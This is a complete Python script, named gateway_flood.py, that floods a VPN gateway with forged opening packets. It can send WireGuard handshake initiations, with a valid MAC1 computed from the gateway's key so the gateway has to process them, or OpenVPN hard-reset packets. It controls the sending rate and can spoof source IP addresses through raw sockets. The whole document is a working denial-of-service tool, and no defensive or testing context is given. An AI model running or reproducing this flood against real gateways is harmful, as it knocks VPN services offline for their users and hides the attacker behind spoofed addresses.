"""Opening packets of VPN protocols at a gateway: gateway_flood.py MANNER ADDRESS PORT SEED PACKETS_PER_SECOND SECONDS KEY [SOURCE...]

Prints `sent COUNT`. With SOURCEs the packets say to come from these addresses; KEY is the gateway's WireGuard key, base64, or `-`.

MANNER  wireguard   type 1 (handshake initiation), 148 octets by chance; with KEY its first MAC is right, so that the gateway works on it
        openvpn     P_CONTROL_HARD_RESET_CLIENT_V2, with session ids by chance
"""
import base64
import hashlib
import random
import socket
import struct
import sys
import time

PACKETS_MAX = 40_000
manner, address, port, seed, rate, seconds, key, *sources = sys.argv[1:]
chance = random.Random(int(seed))
port = int(port)
mac_key = b'' if key == '-' else hashlib.blake2s(b'mac1----' + base64.b64decode(key)).digest()


def initiation():
    body = struct.pack('<II', 1, chance.getrandbits(32)) + chance.randbytes(108)
    mac = hashlib.blake2s(body, key=mac_key, digest_size=16).digest() if mac_key else chance.randbytes(16)
    return body + mac + bytes(16)


def hard_reset():
    # Opcode 7 in the upper five bits, key 0; session id, no acknowledgements, packet id 0.
    return bytes([7 << 3]) + chance.randbytes(8) + bytes(5)


opening = {'wireguard': initiation, 'openvpn': hard_reset}[manner]
if sources:
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
else:
    out = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(chance.choice([1, 8, 64]))]


def send(payload):
    if not sources:
        return chance.choice(out).sendto(payload, (address, port))
    source = chance.choice(sources)
    udp = struct.pack('!HHHH', chance.randint(1_024, 65_535), port, 8 + len(payload), 0) + payload
    # The kernel fills in total length, identification and checksum.
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 0, 0, 0, chance.randint(40, 64), 17, 0, socket.inet_aton(source), socket.inet_aton(address))
    return out.sendto(ip + udp, (address, 0))


began, sent = time.monotonic(), 0
while sent < PACKETS_MAX and (passed := time.monotonic() - began) < float(seconds):
    for _ in range(min(PACKETS_MAX, int(passed * float(rate))) - sent):
        try:
            send(opening())
        except OSError:
            pass  # a refusal by ICMP, told at the next packet
        sent += 1
    time.sleep(0.004)
print('sent', sent)
